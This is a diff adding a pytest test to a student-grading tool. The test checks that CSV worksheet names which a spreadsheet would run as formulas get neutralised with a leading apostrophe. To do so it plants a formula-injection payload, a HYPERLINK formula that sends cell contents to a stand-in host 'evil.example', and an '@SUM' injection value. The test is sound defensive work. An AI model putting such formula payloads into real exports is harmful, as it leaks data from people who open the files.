@@ -147,3 +147,22 @@ def test_escape_sequences_and_markup_from_students_never_reach_the_terminal(tmp_
     for row in rows:
         flags = [f for f in row["flags"] if f.startswith("missing_module:")]
         assert flags and not any(c in "".join(flags) + row["message"] for c in "\x1b\x07")
+
+
+# --- item 8: a Full name that a spreadsheet would run as a formula ---------------------------
+def test_formula_names_are_neutralised_only_in_the_column_moodle_ignores(tmp_path):
+    from grader.export.worksheet_io import fill, read_worksheet
+
+    demo = Path(__file__).resolve().parent.parent / "submissions/demo/mnist_cnn.worksheet.csv"
+    text = demo.read_bytes().decode("utf-8")
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Ver nota")'
+    hostile = text.replace('"José Núñez"', '"' + evil.replace('"', '""') + '"', 1)
+    hostile = hostile.replace('"María O\'Connor"', '@SUM(1+1)', 1)  # no space: Moodle leaves it unquoted
+    path = tmp_path / "ws.csv"
+    path.write_bytes(hostile.encode("utf-8"))
+    out = fill(read_worksheet(path), {})
+    # exactly the two name cells changed: an apostrophe first, nothing else anywhere
+    assert out == hostile.replace('"=HYPERLINK', "\"'=HYPERLINK", 1).replace(',@SUM', ",'@SUM", 1)
+    back = read_worksheet(tmp_path / "ws.csv")
+    assert [r.participant_id for r in back.rows][:2] == ["4518203", "4518217"]
+    assert fill(read_worksheet(demo), {}).encode("utf-8") == demo.read_bytes()  # normal names: untouched
